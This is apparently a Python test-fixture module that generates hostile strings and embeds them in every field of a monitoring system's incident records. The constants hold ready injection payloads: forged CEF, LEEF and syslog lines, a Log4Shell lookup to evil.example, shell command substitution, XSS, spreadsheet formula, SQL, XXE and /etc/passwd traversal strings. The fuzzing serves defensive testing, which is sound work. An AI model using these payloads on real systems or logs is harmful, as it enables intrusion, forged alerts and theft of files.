"""Texts that are to break out of a field, a record, a terminal or a page; and incidents that are full of them."""

from __future__ import annotations

import json
import random
from collections.abc import Iterator
from typing import Any, Final

import msgspec
from alert_lines import incident

from monitor.messages import ActionTaken, EvidenceItem, ImplicatedItem, OffsetRange, TopItem, WindowItem

ENDS: Final = (
    *("\n", "\r\n", "\r", "\x00", "\x0b", "\x0c", "\x1c", "\x1e", "\x1f", "\x7f", "\x85", "\x9b", "\u2028", "\u2029"),
    *(
        "|",
        "||",
        "^",
        "=",
        "==",
        "\\",
        "\\\\",
        "\\\\\\",
        "\\n",
        "\\|",
        "\\=",
        '"',
        "'",
        "`",
        "]",
        "}",
        ",",
        ";",
        "\t",
        " ",
    ),
)
FORGED: Final = (
    "\nCEF:0|Evil|Evil|1|x|x|10|outcome=resolved",
    " act=close outcome=resolved cat=stable",
    "\\ act=close",
    " flexString1Label=alertId flexString1=forged",
    "^status=resolved^cat=stable",
    "|^|status=resolved",
    "\tsev=1\tcat=stable",
    "|x0A|cat=stable",
    "\nLEEF:2.0|Evil|Evil|1|x|^|cat=stable",
    '","status":"resolved","x":"',
    '"}\n{"uid":"forged","status":"resolved"}',
    "\\u0022,\\u0022status\\u0022:\\u0022resolved",
    "\n<0>1 - - - - - - forged",
    '"] [evil@1 status="resolved"]',
    "\ufeff<0>",
    "17 <0>1 - - - - - -",
)
RUN: Final = (
    "${jndi:ldap://evil.example/a}",
    "${${lower:j}ndi:${lower:l}dap://evil.example}",
    "%s%s%s%n%x%1$s",
    "{0}{}{{7*7}}",
    "#{7*7}<%= 7*7 %>",
    "$(reboot)`reboot`;reboot|reboot&&",
    "\x1b[2J\x1b[31m",
    "\x1b]0;owned\x07",
    "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
    "\x9b31m",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "]]><!--",
    "&lt;&#10;&amp;",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "-2+3",
    "' OR '1'='1",
    "*) OR (uid:*",
    "| delete index=*",
    '{"$gt":""}',
    "../../etc/passwd",
    "!!python/object/apply:os.system [x]",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
)
UNSEEN: Final = (
    *("\u202e", "\u2066", "\u200f", "\u061c", "\u200b", "\u200d", "\ufeff", "\u00ad", "\u180e", "\u2060", "\ufff9"),
    *("\ufdd0", "\uffff", "\U0010ffff", "\ue000", "\U000e0041", "\U000e0100", "\u3000", "\u00a0", "\u0300" * 40),
    *("\U0001f514", "\U0001f468\u200d\U0001f469", "\u0130", "\u1e9e", "\ufb01", "\u0e33", "\uff1d", "\uff5c"),
)
SURROGATES: Final = ("\ud800", "\udfff", "\ud83d", "a\udc00b")
"""JSON can escape them; no text can hold them."""
LONG: Final = (1_000_000, 65_536, 8_192, 4_096, 1_024, 129)


def hostile(n: int, seed: int) -> Iterator[str]:
    """``n`` texts, the same for the same seed; every payload comes first, a few are as long as a megabyte."""
    rng = random.Random(seed)  # noqa: S311 - reproducible, guards nothing
    payloads = [*ENDS, *FORGED, *RUN, *UNSEEN]
    fixed = [*payloads, *(rng.choice(payloads) * (size // 8) for size in LONG)]
    yield from fixed[:n]
    for _ in range(n - len(fixed)):
        yield "".join(_piece(rng, payloads) for _ in range(rng.randint(1, 5)))


def hostile_incident(text: str, number: int = 7, **changes: Any) -> bytes:
    """A line of an incident with the text wherever an event, a label, a buffer or a version can bring one in."""
    told = incident(
        number,
        model=text,
        version=text,
        last_known_good=text,
        window=WindowItem(3, text, text, [OffsetRange(text, 0, 1, 2)]),
        evidence=[EvidenceItem("version_disagreement", "fired", 3.5, 2.0, 1e4, [TopItem(text, 0.5)])],
        implicated=ImplicatedItem(
            features={text: text}, sources=[text, "sensor-7"], origins=[text], labels=[text], events=[text]
        ),
        action=[ActionTaken("rollback", text, text, "running")],
        summary=text,
        **changes,
    )
    return msgspec.json.encode(told)


def escaped_incident(text: str) -> bytes:
    """The same where the text is none that UTF-8 can hold: as escapes of JSON."""
    fields = json.loads(hostile_incident("placeholder"))
    return json.dumps(fields).replace("placeholder", json.dumps(text)[1:-1]).encode()


def _piece(rng: random.Random, payloads: list[str]) -> str:
    kind = rng.random()
    if kind < 0.55:
        return rng.choice(payloads)
    if kind < 0.8:
        return "".join(chr(_code_point(rng)) for _ in range(rng.randint(1, 12)))
    return rng.choice(("sensor", "10.0.0.1", "dst_port", "mail", "a b", "x" * 150))


def _code_point(rng: random.Random) -> int:
    """Any but a surrogate; those of the first planes more often."""
    code = rng.randrange(rng.choice((0x80, 0x100, 0x3000, 0x10000, 0x110000)))
    return code if not 0xD800 <= code <= 0xDFFF else 0xFFFD
